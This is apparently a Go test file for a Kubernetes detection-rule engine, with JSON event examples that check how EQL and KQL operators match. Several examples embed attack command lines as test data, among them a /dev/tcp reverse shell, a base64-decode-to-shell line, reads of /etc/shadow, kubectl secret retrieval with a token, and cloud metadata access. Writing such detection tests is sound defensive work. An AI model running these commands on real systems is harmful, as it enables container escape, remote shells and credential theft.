		{"anonymous has a name", opAudit(`"verb":"create","user":{"username":"system:anonymous","groups":["system:unauthenticated"]},"sourceIPs":["192.0.2.201"],` + opPodRef), false},
		{"ECS null", `{"kubernetes":{"audit":{"verb":"create","objectRef":{"resource":"pods"},"user":{"username":null}}}}`, true},
		{"not a create", opAudit(`"verb":"get","user":{},"sourceIPs":["192.0.2.201"],` + opPodRef), false},
	},
	"eql_not_null.toml": {
		{"parent known", opProc(`"process":{"name":"sh","parent":{"executable":"/bin/bash"}}`), true},
		{"parent null", opProc(`"process":{"name":"sh","parent":{"executable":null}}`), false},
		{"no parent", opProc(`"process":{"name":"sh"}`), false},
		{"empty string exists", opProc(`"process":{"name":"sh","parent":{"executable":""}}`), true},
		{"not sh", opProc(`"process":{"name":"bash","parent":{"executable":"/bin/bash"}}`), false},
	},
	"eql_optional.toml": {
		{"container entry", opProc(`"process":{"name":"bash","entry_leader":{"entry_meta":{"type":"container"}}}`), true},
		{"init entry", opProc(`"process":{"name":"bash","entry_leader":{"entry_meta":{"type":"init"}}}`), false},
		{"no entry leader: != holds", opProc(`"process":{"name":"bash"}`), true},
		{"not bash", opProc(`"process":{"name":"sh","entry_leader":{"entry_meta":{"type":"container"}}}`), false},
	},
	"eql_any.toml": {
		{"process event", opProc(`"process":{"name":"curl"}`), true},
		{"file event", `{"event":{"category":["file"],"type":["creation"]},"file":{"path":"/tmp/kworker"},"process":{"name":"curl"}}`, true},
		{"no category at all", `{"process":{"name":"curl"}}`, true},
		{"wget", opProc(`"process":{"name":"wget"}`), false},
	},
	"eql_process_where.toml": {
		{"category array", opProc(`"process":{"name":"nsenter"}`), true},
		{"category string", `{"event":{"category":"process"},"process":{"name":"nsenter"}}`, true},
		{"category dotted", `{"event.category":["process"],"process.name":"nsenter"}`, true},
		{"one of several categories", `{"event":{"category":["network","process"]},"process":{"name":"nsenter"}}`, true},
		{"file category", `{"event":{"category":["file"]},"process":{"name":"nsenter"}}`, false},
		{"category case-sensitive", `{"event":{"category":["Process"]},"process":{"name":"nsenter"}}`, false},
		{"no category", `{"process":{"name":"nsenter"}}`, false},
	},
	"eql_file_where.toml": {
		{"release_agent opened", `{"event":{"category":["file"],"type":["change"],"action":"open"},"file":{"path":"/tmp/cgrp/release_agent","name":"release_agent"},"process":{"name":"sh"}}`, true},
		{"process category", opProc(`"file":{"name":"release_agent"},"process":{"name":"sh"}`), false},
		{"other case", `{"event":{"category":["file"]},"file":{"name":"Release_Agent"}}`, false},
	},
	"eql_network_where.toml": {
		{"port 10250", opNet(`"destination":{"ip":"198.51.100.21","port":10250}`), true},
		{"port as a string", opNet(`"destination":{"ip":"198.51.100.21","port":"10250"}`), true},
		{"port 10255", opNet(`"destination":{"ip":"198.51.100.21","port":10255}`), false},
		{"process category", opProc(`"destination":{"port":10250},"process":{"name":"curl"}`), false},
	},
	"eql_startswith.toml": {
		{"token flag in /app", opProc(`"process":{"name":"kubectl","args":["kubectl","--token=eyJhbGciOi","get","secrets"],"working_directory":"/app"}`), true},
		{"under /opt/ci/", opProc(`"process":{"name":"kubectl","args":["kubectl","--token=eyJhbGciOi","get","secrets"],"working_directory":"/opt/ci/build"}`), false},
		{"no token flag", opProc(`"process":{"name":"kubectl","args":["kubectl","get","secrets"],"working_directory":"/app"}`), false},
		{"case-sensitive", opProc(`"process":{"name":"kubectl","args":["kubectl","--TOKEN=eyJhbGciOi"],"working_directory":"/app"}`), false},
		{"no arguments", opProc(`"process":{"name":"kubectl","working_directory":"/app"}`), false},
		{"no working directory: not startsWith holds", opProc(`"process":{"name":"kubectl","args":["kubectl","--token=eyJhbGciOi","get","secrets"]}`), true},
	},
	"eql_startswith_insensitive.toml": {
		{"same case", opProc(`"process":{"name":"vim","working_directory":"/HOME/ÉLODIE/src"}`), true},
		{"ASCII letters in other case", opProc(`"process":{"name":"vim","working_directory":"/home/ÉLODIE/src"}`), true},
		{"other path", opProc(`"process":{"name":"vim","working_directory":"/home/elodie"}`), false},
		{"missing", opProc(`"process":{"name":"vim"}`), false},
		{"é is not É", opProc(`"process":{"name":"vim","working_directory":"/home/élodie/src"}`), false},
	},
	"eql_endswith.toml": {
		{"sh from bash", opProc(`"process":{"name":"sh","executable":"/bin/sh","parent":{"executable":"/bin/bash"}}`), true},
		{"sh from the shim", opProc(`"process":{"name":"sh","executable":"/bin/sh","parent":{"executable":"/usr/bin/containerd-shim-runc-v2"}}`), false},
		{"bash", opProc(`"process":{"name":"bash","executable":"/bin/bash","parent":{"executable":"/bin/bash"}}`), false},
		{"case-sensitive", opProc(`"process":{"name":"SH","executable":"/bin/SH","parent":{"executable":"/bin/bash"}}`), false},
		{"no parent: not endsWith holds", opProc(`"process":{"name":"sh","executable":"/bin/sh"}`), true},
	},
	"eql_endswith_insensitive.toml": {
		{".sh", opProc(`"process":{"name":"x.sh","executable":"/tmp/x.sh"}`), true},
		{".SH", opProc(`"process":{"name":"X.SH","executable":"/tmp/X.SH"}`), true},
		{"not at the end", opProc(`"process":{"name":"x.sh.bak","executable":"/tmp/x.sh.bak"}`), false},
		{"array, any element", opProc(`"process":{"name":"x","executable":["/tmp/x","/tmp/run.Sh"]}`), true},
	},
	"eql_stringcontains.toml": {
		{"/dev/tcp/ in /root", opProc(`"process":{"name":"bash","command_line":"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1","working_directory":"/root"}`), true},
		{"in a test folder", opProc(`"process":{"name":"bash","command_line":"bash -c echo > /dev/tcp/127.0.0.1/8080","working_directory":"/srv/test"}`), false},
		{"no /dev/tcp/", opProc(`"process":{"name":"bash","command_line":"bash -c id","working_directory":"/root"}`), false},
		{"case-sensitive", opProc(`"process":{"name":"bash","command_line":"bash -c cat /DEV/TCP/x","working_directory":"/root"}`), false},
		{"no working directory: not stringContains holds", opProc(`"process":{"name":"bash","command_line":"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}`), true},
	},
	"eql_stringcontains_insensitive.toml": {
		{"base64", opProc(`"process":{"name":"sh","command_line":"sh -c echo aWQK | base64 -d | sh"}`), true},
		{"BASE64", opProc(`"process":{"name":"sh","command_line":"sh -c echo aWQK | BASE64 -D | sh"}`), true},
		{"base32", opProc(`"process":{"name":"sh","command_line":"sh -c echo NFSA==== | base32 -d"}`), false},
		{"missing", opProc(`"process":{"name":"sh"}`), false},
	},
	"eql_cidrmatch.toml": {
		{"metadata from a pod", opNet(`"source":{"ip":"198.51.100.5"},"destination":{"ip":"169.254.169.254","port":80}`), true},
		{"metadata from the jump subnet", opNet(`"source":{"ip":"192.0.2.7"},"destination":{"ip":"169.254.169.254","port":80}`), false},
		{"IPv6 metadata address", opNet(`"source":{"ip":"2001:db8::5"},"destination":{"ip":"fd00:ec2::254","port":80}`), true},
		{"next address", opNet(`"source":{"ip":"198.51.100.5"},"destination":{"ip":"169.254.169.253","port":80}`), false},
		{"IPv4-mapped IPv6", opNet(`"source":{"ip":"198.51.100.5"},"destination":{"ip":"::ffff:169.254.169.254","port":80}`), true},
		{"array, any element", opNet(`"source":{"ip":"198.51.100.5"},"destination":{"ip":["10.0.0.1","169.254.169.254"]}`), true},
		{"not an address", opNet(`"source":{"ip":"198.51.100.5"},"destination":{"ip":"metadata.google.internal"}`), false},
		{"no destination", opNet(`"source":{"ip":"198.51.100.5"}`), false},
		{"no source: not cidrMatch holds", opNet(`"destination":{"ip":"169.254.169.254","port":80}`), true},
	},
	"eql_backtick.toml": {
		{"forbid", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,` + opForbid), true},
		{"allow", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef + `,` + opAllow), false},
		{"ECS dotted key", `{"kubernetes.audit.annotations.authorization_k8s_io/decision":"forbid"}`, true},
		{"no annotations", opAudit(`"verb":"create",` + opAlice + `,` + opPodRef), false},
	},
	"eql_strings.toml": {
		{"escaped quotes", opProc(`"process":{"name":"sh","command_line":"sh -c \"cat /etc/shadow\""}`), true},
		{"without the quotes", opProc(`"process":{"name":"sh","command_line":"sh -c cat /etc/shadow"}`), false},
		{"raw string keeps backslashes", opProc(`"process":{"name":"cmd.exe","working_directory":"C:\\Users\\Public"}`), true},
		{"doubled backslashes differ", opProc(`"process":{"name":"cmd.exe","working_directory":"C:\\\\Users\\\\Public"}`), false},
		{"\\t is a tab", opProc(`"process":{"name":"printf","args":["x\ty"]}`), true},
		{"a backslash and t is not a tab", opProc(`"process":{"name":"printf","args":["x\\ty"]}`), false},
		{"\\u{1F600}", opProc(`"process":{"name":"echo","args":["😀"]}`), true},
		{"\\u{1F600} against a JSON surrogate pair", opProc(`"process":{"name":"echo","args":["\ud83d\ude00"]}`), true},
	},
	"eql_comments.toml": {
		{"nsenter -t 1", opProc(`"process":{"name":"nsenter","args":["nsenter","-t","1","-m","-p"]}`), true},
		{"nsenter -t 2", opProc(`"process":{"name":"nsenter","args":["nsenter","-t","2","-m"]}`), false},
	},
	"eql_range.toml": {
		{"10250", opNet(`"destination":{"port":10250}`), true},
		{"10256 included", opNet(`"destination":{"port":10256}`), true},
		{"10257", opNet(`"destination":{"port":10257}`), false},
		{"10249", opNet(`"destination":{"port":10249}`), false},
		{"string 10255", opNet(`"destination":{"port":"10255"}`), true},
		{"compared as numbers, not text", opNet(`"destination":{"port":"9999"}`), false},
		{"missing", opNet(`"destination":{"ip":"198.51.100.21"}`), false},
	},
}

// loadOperatorRules loads testdata/operators and fails on any file that is
// skipped or broken.
func loadOperatorRules(t *testing.T) map[string]*rules.Rule {
	t.Helper()
	results, err := rules.LoadPath(operatorsDir)
	if err != nil {
		t.Fatalf("LoadPath: %v", err)
	}
	byFile := map[string]*rules.Rule{}
	for _, res := range results {
		name := filepath.Base(res.Path)
		switch {
		case res.Skipped():
			t.Errorf("%s skipped: %s", name, res.Reason())
		case res.Err != nil:
			t.Errorf("%s broken: %v", name, res.Err)
		default:
			byFile[name] = res.Rule
		}
	}
	return byFile
}

// TestOperatorRulesLoad: every file in testdata/operators is a valid rule in
// the detection-rules layout that k8sexec runs, with its own rule_id, in
// the language its file name says, and has examples below (and every
// example names a file that exists).
func TestOperatorRulesLoad(t *testing.T) {
	entries, err := os.ReadDir(operatorsDir)
	if err != nil {
		t.Fatal(err)
	}
	byFile := loadOperatorRules(t)
	var files []string
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".toml") {
			files = append(files, e.Name())
		}
	}
	if len(files) != len(byFile) {
		t.Errorf("%d rule files, %d loaded", len(files), len(byFile))
	}
	ids := map[string]string{}
	for _, f := range files {
		r := byFile[f]
		if r == nil {
			continue
		}
		if other, dup := ids[r.ID]; dup {
			t.Errorf("%s and %s share rule_id %s", f, other, r.ID)
		}
		ids[r.ID] = f
		wantLang, wantType := "eql", "eql"
		if strings.HasPrefix(f, "kql_") {
			wantLang, wantType = "kuery", "query"
		}
		if r.Language != wantLang || r.Type != wantType {
			t.Errorf("%s: language %q type %q, want %q %q", f, r.Language, r.Type, wantLang, wantType)
		}
		if len(r.Author) != 1 || r.Author[0] != "k8sexec" || r.Origin != "user" {
			t.Errorf("%s: author %q origin %q", f, r.Author, r.Origin)
		}
		if r.Name == "" || r.Description == "" || r.Severity == "" || r.RiskScore == 0 {
			t.Errorf("%s: incomplete metadata %+v", f, r)
		}
		if len(operatorCases[f]) == 0 {
			t.Errorf("%s has no examples in operatorCases", f)
		}
	}
	for f := range operatorCases {
		if byFile[f] == nil {
			t.Errorf("operatorCases names %s, which did not load", f)
		}
	}
}

// TestOperatorRuleExamples runs each rule on its examples through the real
// adapters and compares with Elasticsearch's answer.
func TestOperatorRuleExamples(t *testing.T) {
	byFile := loadOperatorRules(t)
	files := make([]string, 0, len(operatorCases))
	for f := range operatorCases {
		files = append(files, f)
	}
	sort.Strings(files)
	for _, f := range files {
		r := byFile[f]
		if r == nil {
			continue
		}
		t.Run(strings.TrimSuffix(f, ".toml"), func(t *testing.T) {
			matches, misses := 0, 0
			for _, c := range operatorCases[f] {
				if c.want {
					matches++
				} else {
					misses++
				}
			}
			if matches == 0 || misses == 0 {
				t.Errorf("%s needs examples that match and that do not (%d, %d)", f, matches, misses)
			}
			for _, c := range operatorCases[f] {
				t.Run(c.name, func(t *testing.T) {
					if !json.Valid([]byte(c.doc)) {
						t.Fatalf("example is not valid JSON: %s", c.doc)
					}
					doc, shape := scan.Adapt([]byte(c.doc))
					if strings.HasPrefix(c.doc, `{"kind":"Event"`) && shape != scan.ShapeRawAudit {
						t.Fatalf("example read as %v, want a raw audit event", shape)
					}
					got := r.Matches(doc)
					if got != c.want {
						t.Errorf("%s\n  query: %s\n  on %s\n  = %v, Elasticsearch gives %v", f, r.Query, c.doc, got, c.want)
					}
				})
			}
		})
	}
}
